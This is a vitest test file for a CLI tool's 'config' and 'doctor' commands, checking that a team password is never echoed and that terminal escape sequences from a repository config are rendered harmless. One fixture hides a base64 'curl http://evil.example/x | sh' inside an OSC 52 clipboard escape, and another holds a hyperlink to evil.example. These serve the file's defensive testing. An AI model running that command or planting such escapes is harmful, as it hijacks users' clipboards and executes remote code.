import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { resolveConfig } from "../../../src/config/resolve.ts";
import { runCairn, tempHome } from "../../helpers/cairn.ts";

/**
 * What `cairn config` and `cairn doctor` print about a repository's config (security
 * review 2026-11-28): never the user's team password that an invalid project value
 * made them echo (finding 7), never a terminal control sequence the file carries
 * (finding 10). The agent runs doctor too, so neither reaches its context either.
 */

const PASSWORD = "Tr0ub4dor-pw";
const TEAM_URL = `postgres://alice:${PASSWORD}@db.internal:5432/team?sslmode=verify-full&sslrootcert=system`;
/** OSC 52 (clipboard), a title, clear screen, home, an OSC 8 hyperlink, a C1 CSI. */
const ESCAPES = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07\x1b]0;title\x07\x1b[2J\x1b[H";
const LINK = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07";

/** Whether a text holds a control a terminal acts on (C0 but newline, DEL, C1). */
const hasControl = (text: string) =>
  [...text].some((c) => {
    const n = c.codePointAt(0)!;
    return (n < 0x20 && n !== 0x0a) || (n >= 0x7f && n <= 0x9f);
  });

let sb: ReturnType<typeof tempHome>;
beforeEach(() => {
  sb = tempHome("cairn-config-print-");
  mkdirSync(join(sb.home, ".cairn"), { recursive: true });
  mkdirSync(join(sb.project, ".claude"), { recursive: true });
  mkdirSync(join(sb.project, ".git"), { recursive: true });
});
afterEach(() => sb.cleanup());

describe("an invalid value never echoes a string in effect (finding 7)", () => {
  it("pure: the issue names what stays, not its text", () => {
    const r = resolveConfig([
      { source: "user", path: "u.yaml", data: { team: { url: TEAM_URL } } },
      { source: "project", path: "p.yaml", data: { team: { url: 5 } } },
      { source: "project", path: "p.yaml", data: { log: { level: 7 } } },
    ]);
    const text = JSON.stringify(r.issues);
    expect(text).not.toContain(PASSWORD);
    expect(r.issues.map((i) => i.problem)).toEqual([
      expect.stringMatching(/; keeping the user setting$/),
      expect.stringMatching(/; keeping the default$/),
    ]);
    // Numbers and lists are still named: they say what is in effect, and hold no secret.
    const n = resolveConfig([{ source: "user", path: "u.yaml", data: { hook: { budget_ms: "soon" } } }]);
    expect(n.issues[0]?.problem).toMatch(/; using 4000$/);
  });

  it("cairn config and cairn doctor, text and JSON, never print the password", async () => {
    writeFileSync(join(sb.home, ".cairn", "config.yaml"), `team:\n  url: "${TEAM_URL}"\n`);
    writeFileSync(join(sb.project, ".claude", "cairn.yaml"), "team:\n  url: 5\n");
    for (const args of [["config"], ["config", "--json"], ["doctor"], ["doctor", "--json"]]) {
      const r = await runCairn(args, { env: sb.env, cwd: sb.project });
      expect(`${r.stdout}${r.stderr}`, args.join(" ")).not.toContain(PASSWORD);
      expect(r.stdout, args.join(" ")).toContain("team.url");
    }
  });
});

describe("a repository's config prints no terminal control (finding 10)", () => {
  it("cairn config and cairn doctor show its key names and values as marks", async () => {
    writeFileSync(
      join(sb.project, ".claude", "cairn.yaml"),
      `'x${ESCAPES}': 1\ncompress:\n  min_bytes: '${LINK}'\n  never: ["\\u009b2J"]\n`,
    );
    for (const args of [["config"], ["doctor"]]) {
      const r = await runCairn(args, { env: { ...sb.env, NO_COLOR: "1" }, cwd: sb.project });
      expect(hasControl(r.stdout), `${args.join(" ")}:\n${r.stdout}`).toBe(false);
      // Shown, not dropped: the person sees what the file tried.
      expect(r.stdout, args.join(" ")).toContain("x␛]52;c;");
    }
  });
});
